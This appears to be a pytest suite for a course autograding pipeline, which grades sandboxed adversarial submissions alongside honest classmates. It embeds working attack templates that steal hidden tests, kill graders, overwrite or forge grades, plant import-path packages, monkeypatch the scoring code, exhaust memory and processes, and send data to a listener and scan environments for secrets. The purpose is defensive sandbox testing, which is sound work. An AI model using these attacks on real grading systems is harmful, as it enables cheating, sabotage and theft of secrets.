"""Tests of the homework pipeline (scripts/homework.py) and of every assignment in homework/.

For each assignment: the solution scores full marks, the untouched student notebook runs to the end
and scores 0 everywhere, and nothing of the solutions or hidden tests reaches the student. For the
first assignment, one batch graded like `make grade` (each submission in its bubblewrap sandbox)
holds two honest classmates and the adversarial submissions: syntax error, exception, sys.exit /
os._exit, endless loops, megabytes of output, deleting grader files, monkeypatching numpy and otter,
and every attack of issue 19 (reading the master notebook and hidden tests, killing other graders,
overwriting a classmate's submission, a process that rewrites the gradebook after grading, a forged
report, writing into the repository, unbounded memory and processes, the network, the instructor's
environment and other students' files, a process holding the output pipes, a worker death during a
test). Each attack has its own test; the honest classmates keep full marks in every one.
"""

from __future__ import annotations

import base64
import importlib.util
import hashlib
import io
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pytest

REPO = Path(__file__).resolve().parent.parent
spec = importlib.util.spec_from_file_location("homework", REPO / "scripts" / "homework.py")
hw = importlib.util.module_from_spec(spec)
sys.modules["homework"] = hw
spec.loader.exec_module(hw)
from homework_worker import decode, encode  # noqa: E402  (scripts/ is on sys.path now)

ASSIGNMENTS = hw.discover()
FIRST = "ch01_generative_discriminative"
LIMITS = hw.Limits(total=100, cell=10, call=10)  # CPU seconds; wall-clock backstops 3x


# ----------------------------------------------------------------------------------------------------
# fast unit tests: codec, validation
# ----------------------------------------------------------------------------------------------------

def test_codec_round_trip():
    rng = np.random.default_rng(0)
    value = {"a": rng.normal(size=(3, 4)), 2: (1, 2.5, None, True, "x"), "n": [np.int64(7), float("nan")],
             "i": np.arange(5, dtype=np.int32)}
    back = decode(json.loads(json.dumps(encode(value))))
    assert set(back) == {"a", 2, "n", "i"}
    assert np.array_equal(back["a"], value["a"]) and back["a"].dtype == np.float64
    assert back[2] == (1, 2.5, None, True, "x")
    assert back["n"][0] == 7 and np.isnan(back["n"][1])
    assert back["i"].dtype == np.int32


def test_codec_tensor_round_trip():
    torch = pytest.importorskip("torch")
    tensor = torch.arange(6.0).reshape(2, 3)
    back = decode(encode(tensor))
    assert isinstance(back, torch.Tensor) and torch.equal(back, tensor)


def test_codec_rejects_objects_and_pickles():
    with pytest.raises(TypeError, match="cannot grade a value"):
        encode(object())
    with pytest.raises(TypeError, match="Python objects"):
        encode(np.array([object()], dtype=object))
    with pytest.raises(ValueError, match="malformed"):
        decode({"__pickle__": "x"})
    buffer = io.BytesIO()
    np.save(buffer, np.array([{"evil": 1}], dtype=object), allow_pickle=True)
    with pytest.raises(ValueError):
        decode({"__ndarray__": base64.b64encode(buffer.getvalue()).decode()})


def test_bad_inputs():
    with pytest.raises(ValueError, match="unknown assignment"):
        hw.master_notebook("no_such_assignment")
    with pytest.raises(FileNotFoundError):
        hw.discover(REPO / "no_such_folder")
    with pytest.raises(FileNotFoundError, match="autograder archive not found"):
        hw.load_autograder(REPO / "no_such.zip")
    with pytest.raises(ValueError, match="not an autograder zip"):
        hw.load_autograder(b"not a zip")
    with pytest.raises(ValueError, match="positive"):
        hw.Limits(total=0)
    with pytest.raises(ValueError, match="no submissions"):
        hw.grade_batch({}, {"tests": {"q1": ""}, "files": {}})
    with pytest.raises(ValueError, match="no reports"):
        hw.write_gradebook([], REPO / "_build" / "unused")


def test_discovery_finds_the_first_assignment(tmp_path):
    assert FIRST in ASSIGNMENTS
    (tmp_path / "ch09_x").mkdir()
    (tmp_path / "ch09_x" / "hw09.ipynb").write_text("{}")
    (tmp_path / "tools").mkdir()  # no notebook: not an assignment
    assert hw.discover(tmp_path) == ["ch09_x"]


# ----------------------------------------------------------------------------------------------------
# generated artefacts, shared by the slow tests
# ----------------------------------------------------------------------------------------------------

@pytest.fixture(scope="session")
def generated(tmp_path_factory):
    root = tmp_path_factory.mktemp("homework")
    out = {}
    for name in ASSIGNMENTS:
        target = hw.generate(name, out_root=root / "build", book_dir=root / "book")
        master = hw.master_notebook(name)
        out[name] = {
            "target": target, "master": master, "book": root / "book",
            "autograder": hw.load_autograder(target / "autograder" / "autograder.zip"),
            "solution": (target / "autograder" / master.name).read_bytes(),
            "student": (target / "student" / master.name).read_bytes(),
        }
    return out


def _notebook_with(base: bytes, edit) -> bytes:
    nb = nbformat.reads(base.decode("utf-8"), as_version=4)
    edit(nb.cells)
    return nbformat.writes(nb).encode("utf-8")


def _code(source: str):
    return nbformat.v4.new_code_cell(source)


def _index_of(cells, text: str) -> int:
    return next(i for i, c in enumerate(cells) if c.cell_type == "code" and text in c.source)


ATTACK_FILES = r'''
import glob, os, shutil
root = os.path.dirname(os.getcwd())  # where the grader makes its temporary folders
passing = "from otter.test_files import test_case\nOK_FORMAT = False\nname = '{q}'\npoints = 1\n"
for path in glob.glob(os.path.join(root, "**", "tests", "*.py"), recursive=True) + glob.glob("tests/*.py"):
    q = os.path.basename(path)[:-3]
    with open(path, "w") as handle:
        handle.write(passing.format(q=q))
for path in glob.glob(os.path.join(root, "**", "*.zip"), recursive=True):
    os.remove(path)
for path in glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True):
    if os.path.dirname(path) != os.getcwd():
        os.remove(path)  # other submissions' copies
'''

ATTACK_PATCH = r'''
import builtins, numpy, numpy.testing, otter
import otter.test_files.abstract_test as abstract_test
import otter.test_files.exception_test as exception_test
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
abstract_test.TestFile.score = property(lambda self: self.possible)
abstract_test.TestFile.passed_all = property(lambda self: True)
exception_test.ExceptionTestFile.run = lambda self, env: None
builtins.abs = lambda value: 0.0

class Anything:
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __gt__(self, other): return True
    def __float__(self): return 0.0
    def __iter__(self): return iter([Anything()] * 4)
    def __getitem__(self, key): return Anything()

gnb_fit = gnb_predict_log_proba = logistic_loss_grad = logistic_fit_gd = bias_variance = lambda *a, **k: Anything()
q5_overfit_degree = q5_underfit_degree = q5_best_degree = Anything()
grader = type("FakeGrader", (), {"check": lambda self, q: None, "check_all": lambda self: None})()
'''


# ----------------------------------------------------------------------------------------------------
# Attacks of a hostile student (issue 19), each graded in the same batch as honest classmates. Every
# attack that could hurt the machine if the sandbox failed is narrowed to the grader's own processes
# and files (and a fork bomb is capped), and the tests restore anything an attack managed to change.
# ----------------------------------------------------------------------------------------------------

TOKEN = secrets.token_hex(8)
SECRET = f"instructor-secret-{TOKEN}"
CLASSMATE = f"classmate-marker-{TOKEN}"
LINGER = f"hw-linger-{TOKEN}"
PLANTED = [REPO / "scripts" / "sklearn" / "__init__.py", REPO / "scripts" / "otter" / "__init__.py",
           REPO / "scripts" / "__pycache__" / f"homework_worker.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc",
           REPO / "scripts" / "__pycache__" / f"homework.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc",
           REPO / "lectures_utils" / "sitecustomize.py"]

# Reads the master notebook / hidden tests if it can find them anywhere, and copies the solutions.
ATTACK_STEAL = r'''
import json, os, zipfile
HIDDEN, SOLVED = "hidden" + "=True", "BEGIN " + "SOLUTION"
own = os.path.abspath("reads_hidden_tests.ipynb")
roots = [os.path.dirname(os.getcwd()), {repo!r}, {work!r}, {build!r}, "/proc/1/cwd", "/proc/1/root", "/"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for link in ("cwd", "root", "exe"):
            try:
                roots.append(os.path.dirname(os.readlink(f"/proc/{{pid}}/{{link}}")))
            except OSError:
                pass
found, dirs = [], 0
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        dirs += 1
        dirnames[:] = [d for d in dirnames if d not in ("site-packages", "proc", "sys", "dev", "usr", "include")]
        for name in filenames:
            path = os.path.join(dirpath, name)
            if path == own or not name.endswith((".ipynb", ".zip", ".py")):
                continue
            if name.endswith(".py") and os.path.basename(dirpath) != "tests":
                continue
            try:
                if name.endswith(".zip"):
                    with zipfile.ZipFile(path) as archive:
                        text = " ".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                                        if n.startswith("tests/"))
                else:
                    text = open(path, encoding="utf-8", errors="replace").read()
            except Exception:
                continue
            if HIDDEN in text or SOLVED in text:
                found.append(path)
        if dirs > 30000:
            break
if found:
    print("LEAK-FOUND", found)
for path in found:
    if path.endswith(".ipynb"):
        cells = json.load(open(path))["cells"]
        for cell in cells:
            if cell["cell_type"] == "code":
                try:
                    exec("".join(cell["source"]), globals())
                except BaseException:
                    pass
'''

# Kills every grader and worker process it can see (not kill(-1): on a broken sandbox that would be
# every process of the machine).
ATTACK_KILL = r'''
import os, signal
me, killed = os.getpid(), []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) in (me, 1):
        continue
    try:
        cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"homework" in cmdline or b"pytest" in cmdline:
        for kill in (lambda: os.kill(int(pid), signal.SIGKILL), lambda: os.killpg(os.getpgid(int(pid)), signal.SIGKILL)):
            try:
                kill()
                killed.append(pid)
            except OSError:
                pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
print("killed", killed)
'''

# Overwrites every other submission it can find, by search and at the grader's real paths.
ATTACK_OVERWRITE = r'''
import glob, os
targets = set(glob.glob({subs!r} + "/*.ipynb"))
for root in (os.path.dirname(os.getcwd()), "/tmp", "/home", {work!r}):
    targets.update(glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True))
for path in sorted(targets):
    if os.path.abspath(path) != os.path.abspath("overwrites_classmates.ipynb"):
        try:
            with open(path, "w") as handle:
                handle.write("{{}}")
            print("OVERWROTE", path)
        except OSError:
            pass
'''

# Leaves a detached process that keeps rewriting the gradebook and a classmate's report after grading.
ATTACK_LINGER = r'''
import subprocess, sys
code = """
import os, signal, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
end = time.time() + 60
while time.time() < end:
    for path, text in (({grades!r} + "/gradebook.csv", "file,total\\nrewritten,20\\n"),
                       ({grades!r} + "/reports/good.json", "{{}}")):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(text)
        except OSError:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", code, {linger!r}], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP; sleep 600; : " + {linger!r}], start_new_session=True)
'''

# Writes a forged report into the grader's output: its own stdout/stderr and other processes' fds.
ATTACK_FAKE_REPORT = r'''
import json, os, sys
fake = json.dumps({{"file": "good.ipynb", "scores": {{"q1": 0}}, "total": 0, "errors": ["forged"]}})
print(fake)
sys.stderr.write(fake + "\n")
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as handle:
                    handle.write(fake)
            except OSError:
                pass
'''

# Writes into the repository: the autograder archive, a planted .pyc, fake packages on the trusted
# grader's import path.
ATTACK_REPO = r'''
import os
targets = {targets!r}
fake = "points = 1\ndef _score(*a, **k):\n    return 1\n"
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        mode = "ab" if path.endswith(".zip") else "wb"
        with open(path, mode) as handle:
            handle.write(fake.encode())
        print("WROTE", path)
    except OSError:
        pass
'''

ATTACK_MEMORY = r'''
import numpy as np
hog = []
try:
    for _ in range(64):
        hog.append(np.empty(2**30, dtype=np.uint8))  # 64 GiB in all, 1 GiB at a time (not touched: cheap)
finally:
    hog.clear()  # (leave room for the tests' calls: this checks the limit, not what happens near it)
'''

ATTACK_FORK = r'''
import os, time
forked = 0
try:
    while forked < 1000:  # capped: this machine is shared even if the sandbox failed
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        forked += 1
except OSError as err:
    print("fork refused:", type(err).__name__)
print("FORKED", forked)
'''

ATTACK_NETWORK = r'''
import socket
stolen = b"hidden tests: " + open("network.ipynb", "rb").read()[:200]
for host in {hosts!r}:
    try:
        with socket.create_connection((host, {port}), timeout=2) as conn:
            conn.sendall(stolen)
            print("NET-CONNECTED", host)
    except OSError as err:
        print("no connection to", host, type(err).__name__)
try:
    print("NET-RESOLVED", socket.getaddrinfo("pypi.org", 443))
except OSError as err:
    print("no DNS", type(err).__name__)
'''

ATTACK_SNOOP = r'''
import os
secret_prefix, marker = "instructor-" + "secret-", "classmate-" + "marker-"
for key, value in os.environ.items():
    if secret_prefix in value:
        print("LEAK-ENV", key, value)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            data = open(f"/proc/{{pid}}/environ", "rb").read().decode("utf-8", "replace")
        except OSError:
            continue
        if secret_prefix in data:
            print("LEAK-PROC-ENV", pid, data[data.index(secret_prefix):][:60])
own = os.path.abspath("reads_environment.ipynb")
for root in ("/tmp", "/home", os.path.dirname(os.getcwd()), {work!r}, {tmp!r}):
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                if path != own and marker in open(path, encoding="utf-8", errors="replace").read():
                    print("LEAK-CLASSMATE", path)
            except OSError:
                pass
'''

# A forked process that keeps the worker's output pipes and the protocol pipes open, ignoring signals.
ATTACK_HANG = r'''
import os, signal, time
if os.fork() == 0:
    os.setsid()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(s, signal.SIG_IGN)
    while True:
        time.sleep(1)
'''

ATTACK_DIE_IN_TEST = r'''
import os
def gnb_fit(X, y):
    os._exit(7)  # the worker dies whenever a test calls this
'''


def _listener():
    """A TCP server on every host address the sandbox could try; records connections."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", 0))
    server.listen(8)
    server.settimeout(0.5)
    connections: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, address = server.accept()
            except OSError:
                continue
            connections.append(address)
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    hosts = ["127.0.0.1"]
    try:
        hosts += sorted({info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)})
    except OSError:
        pass
    return server, hosts, connections, stop


def _linger_processes() -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if LINGER.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def _adversarial(solution: bytes, student: bytes, ctx: dict) -> dict[str, tuple[bytes, dict]]:
    """name -> (notebook, expected scores); None in expected means 'full marks'."""

    def syntax(cells):
        i = _index_of(cells, "def gnb_fit(")
        cells[i].source = "def gnb_fit(X, y:\n    return 1\n"
        cells.append(_code("this is not python ((("))

    def raises(cells):
        cells.insert(2, _code("raise RuntimeError('the student code raised')"))

    def exits(cells):
        cells.insert(2, _code("import sys\nsys.exit(1)"))
        cells.insert(_index_of(cells, "def logistic_loss_grad("), _code("import os\nos._exit(3)"))

    def loops(cells):
        cells.insert(_index_of(cells, "def gnb_predict_log_proba("), _code("while True:\n    pass"))
        cells.append(_code("import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
                           "    except BaseException:\n        pass"))

    def prints(cells):
        cells.insert(2, _code("import sys\nprint('x' * 30_000_000)\nfor _ in range(200):\n"
                              "    sys.stderr.write('y' * 100_000)"))

    def appended(source):
        return lambda cells: cells.append(_code(source))

    def honest(cells):  # a classmate: carries a marker that a snooping submission must not find
        cells.append(_code(f"classmate_marker = {CLASSMATE!r}"))

    def slow(cells):  # honest but slow: waits longer than the CPU limit of a cell (e.g. a loaded machine)
        cells.insert(2, _code(f"import time\ntime.sleep({1.5 * LIMITS.cell})"))
        honest(cells)

    paths = {"repo": str(REPO), "work": str(ctx["work"]), "build": str(ctx["build"]), "subs": str(ctx["subs"]),
             "grades": str(ctx["grades"]), "linger": LINGER, "tmp": tempfile.gettempdir(),
             "targets": [str(ctx["zip"])] + [str(p) for p in PLANTED], "hosts": ctx["hosts"], "port": ctx["port"]}
    fill = lambda template: template.format(**paths)  # noqa: E731
    full = None
    return {
        "good.ipynb": (_notebook_with(solution, honest), full),
        "honest_slow.ipynb": (_notebook_with(solution, slow), full),
        "blank.ipynb": (student, "zero"),
        "syntax_error.ipynb": (_notebook_with(solution, syntax), {"q1": 0.0}),
        "raises.ipynb": (_notebook_with(solution, raises), full),
        "sys_exit.ipynb": (_notebook_with(solution, exits), full),
        "endless_loop.ipynb": (_notebook_with(solution, loops), full),
        "prints_megabytes.ipynb": (_notebook_with(solution, prints), full),
        "deletes_files.ipynb": (_notebook_with(student, appended(ATTACK_FILES)), "zero"),
        "monkeypatches.ipynb": (_notebook_with(student, appended(ATTACK_PATCH)), "zero"),
        "not_a_notebook.ipynb": (b"{ this is not json", "zero"),
        "reads_hidden_tests.ipynb": (_notebook_with(student, appended(fill(ATTACK_STEAL))), "zero"),
        "kills_classmates.ipynb": (_notebook_with(solution, appended(ATTACK_KILL)), full),
        "overwrites_classmates.ipynb": (_notebook_with(student, appended(fill(ATTACK_OVERWRITE))), "zero"),
        "rewrites_gradebook_later.ipynb": (_notebook_with(student, appended(fill(ATTACK_LINGER))), "zero"),
        "fake_report.ipynb": (_notebook_with(student, appended(fill(ATTACK_FAKE_REPORT))), "zero"),
        "writes_into_repo.ipynb": (_notebook_with(student, appended(fill(ATTACK_REPO))), "zero"),
        "memory_hog.ipynb": (_notebook_with(solution, appended(ATTACK_MEMORY)), full),
        "fork_bomb.ipynb": (_notebook_with(solution, appended(ATTACK_FORK)), full),
        "network.ipynb": (_notebook_with(student, appended(fill(ATTACK_NETWORK))), "zero"),
        "reads_environment.ipynb": (_notebook_with(student, appended(fill(ATTACK_SNOOP))), "zero"),
        "hangs_output.ipynb": (_notebook_with(solution, appended(ATTACK_HANG)), full),
        "dies_during_test.ipynb": (_notebook_with(solution, appended(ATTACK_DIE_IN_TEST)), {"q1": 0.0}),
    }


HONEST = ("good.ipynb", "honest_slow.ipynb")


@pytest.fixture(scope="session")
def attack_batch(generated, tmp_path_factory):
    """The first assignment's adversarial batch, graded like `make grade` does: submissions in a
    folder, the instructor's secret in the environment, a listening server, the gradebook written."""
    if not hw.sandbox_status()[0]:
        pytest.fail(f"no sandbox on this machine: {hw.sandbox_status()[1]} (CI installs bubblewrap: make sandbox)")
    art = generated[FIRST]
    work = tmp_path_factory.mktemp(f"grading-{FIRST}")
    decoy = work / "decoy-autograder"  # what a naive grader would have lying around
    shutil.copytree(art["target"] / "autograder", decoy)
    zip_path = art["target"] / "autograder" / "autograder.zip"
    server, hosts, connections, stop = _listener()
    ctx = {"work": work, "build": art["target"].parent, "subs": work / "submissions", "grades": work / "grades",
           "zip": zip_path, "hosts": hosts, "port": server.getsockname()[1]}
    batch = _adversarial(art["solution"], art["student"], ctx)
    ctx["subs"].mkdir()
    for name, (data, _) in batch.items():
        (ctx["subs"] / name).write_bytes(data)
    before = {p.name: p.read_bytes() for p in ctx["subs"].iterdir()}
    zip_before = zip_path.read_bytes()
    planted_before = {p: p.read_bytes() if p.exists() else None for p in PLANTED}
    os.environ["HW_INSTRUCTOR_TOKEN"] = SECRET
    started = time.monotonic()
    try:
        reports = hw.grade_batch(sorted(ctx["subs"].glob("*.ipynb")), art["autograder"], LIMITS, work_dir=work)
        batch_wall = time.monotonic() - started
        gradebook = hw.write_gradebook(reports, ctx["grades"])
        written = gradebook.read_bytes()
        time.sleep(1.5)  # a lingering process would rewrite it now
    finally:
        del os.environ["HW_INSTRUCTOR_TOKEN"]
        stop.set()
        server.close()
        planted_after = {}
        for path, old in planted_before.items():  # undo anything an attack managed to write into the repo
            planted_after[path] = path.read_bytes() if path.exists() else None
            if planted_after[path] != old:
                if old is None:
                    path.unlink()
                    if not any(path.parent.iterdir()):
                        path.parent.rmdir()
                else:
                    path.write_bytes(old)
    return {"reports": {r["file"]: r for r in reports}, "expected": {k: v[1] for k, v in batch.items()},
            "ctx": ctx, "before": before, "after": {p.name: p.read_bytes() for p in ctx["subs"].iterdir()},
            "zip_changed": zip_path.read_bytes() != zip_before, "planted": {
                str(p): planted_after[p] != planted_before[p] for p in PLANTED},
            "gradebook_written": written, "gradebook_later": gradebook.read_bytes(),
            "connections": list(connections), "lingering": _linger_processes(), "batch_wall": batch_wall}


@pytest.fixture(scope="session")
def graded(generated, attack_batch, tmp_path_factory):
    """Grade, per assignment, one batch: solution + blank (the adversarial batch for the first one)."""
    results = {FIRST: (attack_batch["reports"], attack_batch["expected"])}
    for name, art in generated.items():
        if name == FIRST:
            continue
        work = tmp_path_factory.mktemp(f"grading-{name}")
        batch = {"good.ipynb": (art["solution"], None), "blank.ipynb": (art["student"], "zero")}
        reports = hw.grade_batch({k: v[0] for k, v in batch.items()}, art["autograder"], LIMITS, work_dir=work)
        results[name] = ({r["file"]: r for r in reports}, {k: v[1] for k, v in batch.items()})
    return results


# ----------------------------------------------------------------------------------------------------
# per assignment
# ----------------------------------------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_solution_scores_full_marks(graded, name):
    reports, _ = graded[name]
    good = reports["good.ipynb"]
    assert good["total"] == good["max_total"] > 0, (good["scores"], good["errors"], good["tests"])
    assert len(good["scores"]) >= 4, "an assignment has at least four questions"


@pytest.mark.slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_blank_student_notebook_runs_to_the_end_and_scores_zero(graded, generated, name):
    reports, _ = graded[name]
    blank = reports["blank.ipynb"]
    assert all(score == 0 for score in blank["scores"].values()), blank["scores"]
    assert not blank["errors"], blank["errors"]  # no cell timed out or killed the worker
    n_cells = len(hw._code_cells(generated[name]["student"]))
    assert len(blank["cells"]) == n_cells and all(c["status"] in ("ok", "error") for c in blank["cells"])


def _solution_lines(master: Path) -> list[str]:
    nb = nbformat.read(master, as_version=4)
    lines, inside = [], False
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        for line in cell.source.splitlines():
            stripped = line.strip()
            if stripped.endswith("# END SOLUTION"):
                inside = False
            elif stripped.endswith("# BEGIN SOLUTION") or stripped.endswith("# BEGIN SOLUTION NO PROMPT"):
                inside = True
            elif (inside or stripped.endswith("# SOLUTION")) and len(stripped) > 12:
                lines.append(stripped.removesuffix("# SOLUTION").strip())
    return lines


def _hidden_test_names(autograder: dict) -> list[str]:
    names = []
    for source in autograder["tests"].values():
        names += re.findall(r"@test_case\([^)]*hidden=True[^)]*\)\s*\ndef (\w+)", source)
    return names


@pytest.mark.slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_student_material_has_no_solution_and_no_hidden_test(generated, name):
    art = generated[name]
    target, master = art["target"], art["master"]
    def code_of(notebook_text: str) -> str:
        # markdown may legitimately state a protocol line (e.g. the random draws to make): check code
        nb = nbformat.reads(notebook_text, as_version=4)
        assert "BEGIN SOLUTION" not in notebook_text
        return "\n".join(c.source for c in nb.cells if c.cell_type == "code")

    texts = {}
    with zipfile.ZipFile(target / "student" / f"{name}.zip") as handout:
        for member in handout.namelist():
            text = handout.read(member).decode("utf-8")
            texts[f"zip:{member}"] = code_of(text) if member.endswith(".ipynb") else text
    texts["student notebook"] = code_of(art["student"].decode("utf-8"))
    texts["book page"] = code_of((art["book"] / f"{name}.ipynb").read_text(encoding="utf-8"))
    for test in (target / "student" / "tests").glob("*.py"):
        texts[f"tests/{test.name}"] = test.read_text(encoding="utf-8")
    solution_lines = _solution_lines(master)
    hidden = _hidden_test_names(art["autograder"])
    assert solution_lines and hidden, "the master notebook must have solutions and hidden tests"
    for label, text in texts.items():
        assert "BEGIN SOLUTION" not in text and "# SOLUTION" not in text, label
        assert "hidden=True" not in text, label
        for line in solution_lines:
            assert line not in text, f"{label} leaks the solution line {line!r}"
        for test in hidden:
            assert test not in text, f"{label} leaks the hidden test {test}"


@pytest.mark.slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_committed_book_page_is_up_to_date(generated, name):
    fresh = generated[name]["book"]
    for suffix in (".ipynb", ".zip"):
        committed = REPO / "book" / "homework" / f"{name}{suffix}"
        assert committed.is_file(), f"run `make homework` and commit {committed.relative_to(REPO)}"
        assert committed.read_bytes() == (fresh / f"{name}{suffix}").read_bytes(), \
            f"{committed.relative_to(REPO)} is stale: run `make homework`"


@pytest.mark.slow
def test_ch06_domain_shift_experiment_makes_its_point(generated, tmp_path, monkeypatch):
    """hw06 q6 teaches that histogram standardisation recovers much of the low-field T1 drop and
    nothing where the tissue order differs from T1's; guard that lesson against phantom changes."""
    name = "ch06_segmentation"
    if name not in generated:
        pytest.skip(f"{name} is not an assignment")
    monkeypatch.chdir(tmp_path)
    namespace: dict = {}
    for source in hw._code_cells(generated[name]["solution"]):
        exec(compile(source, "hw06-solution", "exec"), namespace)  # the solution, run in-process
    dice, recovered = namespace["q6_dice"], namespace["q6_recovered"]
    assert dice["T1"][0] - dice["T1_lowfield"][0] > 0.3, dice  # a real drop on the low-field scanner
    assert 0.5 < recovered["T1_lowfield"] < 0.9, recovered  # most of it recovered, not all (bias field)
    assert max(recovered["T2"], recovered["PD"]) < 0.1 and recovered["FLAIR"] < 0.35, recovered
    assert namespace["q6_not_fixable"] == ["T2", "FLAIR", "PD"]
    # the ungraded question: negating first (a decreasing map) rescues T2 and PD, not FLAIR
    names, images, labels = namespace["SCANNER_NAMES"], namespace["test_images"], namespace["test_labels"]
    for scanner, low, high in (("T2", 0.5, 1.5), ("PD", 0.5, 1.5), ("FLAIR", -1.0, 0.35)):
        per_subject = []
        for image, label in zip(images[:, names.index(scanner)], labels):
            mapped = namespace["standardise"](-image, label > 0, namespace["q6_landmarks"], namespace["PERCENTILES"])
            pred = namespace["segment_tissues"](mapped, label > 0)
            per_subject.append(np.mean([namespace["dice_score"](pred == k, label == k) for k in (1, 2, 3)]))
        share = (np.mean(per_subject) - dice[scanner][0]) / (dice["T1"][0] - dice[scanner][0])
        assert low < share < high, (scanner, share)


# ----------------------------------------------------------------------------------------------------
# the adversarial batch (first assignment)
# ----------------------------------------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("submission", [
    "good.ipynb", "honest_slow.ipynb", "syntax_error.ipynb", "raises.ipynb", "sys_exit.ipynb",
    "endless_loop.ipynb", "prints_megabytes.ipynb", "deletes_files.ipynb", "monkeypatches.ipynb",
    "not_a_notebook.ipynb"])
def test_adversarial_submission_graded_as_expected(graded, submission):
    reports, expected = graded[FIRST]
    report = reports[submission]
    want = {q: p for q, p in report["possible"].items()}
    if expected[submission] == "zero":
        want = {q: 0.0 for q in want}
    elif expected[submission]:
        want.update(expected[submission])
    assert report["scores"] == want, (submission, report["scores"], report["errors"], report["tests"])
    assert report["total"] == sum(want.values())


@pytest.mark.slow
def test_adversarial_reports_say_what_happened(graded):
    reports, _ = graded[FIRST]
    assert any("timed out" in e for e in reports["endless_loop.ipynb"]["errors"])
    assert any("ended the worker process" in e for e in reports["sys_exit.ipynb"]["errors"])
    assert any("could not be read" in e for e in reports["not_a_notebook.ipynb"]["errors"])
    noisy = reports["prints_megabytes.ipynb"]
    assert noisy["output_bytes"] > 40_000_000 and len(noisy["output_head"].encode()) <= hw.OUTPUT_CAP_BYTES + 4
    assert any(c["status"] == "error" and "SyntaxError" in c["error"] for c in reports["syntax_error.ipynb"]["cells"])


@pytest.mark.slow
def test_gradebook_has_a_row_per_submission(graded, tmp_path):
    reports, _ = graded[FIRST]
    path = hw.write_gradebook(list(reports.values()), tmp_path)
    rows = path.read_text(encoding="utf-8").splitlines()
    assert rows[0] == "file,q1,q2,q3,q4,q5,total,max_total,error"
    assert len(rows) == 1 + len(reports)
    assert sorted(p.name for p in (tmp_path / "reports").iterdir()) == sorted(
        Path(f).stem + ".json" for f in reports)


@pytest.mark.slow
def test_otter_run_accepts_the_generated_autograder(generated, tmp_path):
    """The archive is a standard otter autograder: `otter run` gives the solution full marks."""
    art = generated[FIRST]
    solution = tmp_path / art["master"].name
    solution.write_bytes(art["solution"])
    otter = Path(sys.executable).parent / "otter"
    subprocess.run([str(otter), "run", "-a", str(art["target"] / "autograder" / "autograder.zip"),
                    "-o", str(tmp_path), "--no-logo", str(solution)], check=True, capture_output=True,
                   cwd=tmp_path, timeout=300)
    results = json.loads((tmp_path / "results.json").read_text())
    scored = [t for t in results["tests"] if "max_score" in t]  # otter adds a "Public Tests" summary row
    assert [t["name"] for t in scored] == list(art["autograder"]["tests"])
    assert sum(t["score"] for t in scored) == sum(t["max_score"] for t in scored) == 20


# ----------------------------------------------------------------------------------------------------
# the sandbox (issue 19): each attack of a hostile student, graded with honest classmates in one batch
# ----------------------------------------------------------------------------------------------------

def _assert_scored(attack_batch, submission):
    report = attack_batch["reports"][submission]
    expected = attack_batch["expected"][submission]
    want = dict(report["possible"])
    if expected == "zero":
        want = {q: 0.0 for q in want}
    elif expected:
        want.update(expected)
    assert report["scores"] == want, (submission, report["scores"], report["errors"], report["output_head"][-2000:])
    assert report["sandbox"] == "bubblewrap"
    for name in HONEST:  # the honest classmates of the same batch keep full marks and a clean row
        honest = attack_batch["reports"][name]
        assert honest["total"] == honest["max_total"] and not honest["errors"], (name, honest["errors"])
    return report


@pytest.mark.slow
def test_attack_cannot_read_master_notebook_or_hidden_tests(attack_batch):
    print(f"adversarial batch: {len(attack_batch['reports'])} submissions in {attack_batch['batch_wall']:.1f} s; "
          + ", ".join(f"{k}: {r['wall_s']} s wall / {r['cpu_s']} s CPU" for k, r in attack_batch["reports"].items()))
    report = _assert_scored(attack_batch, "reads_hidden_tests.ipynb")
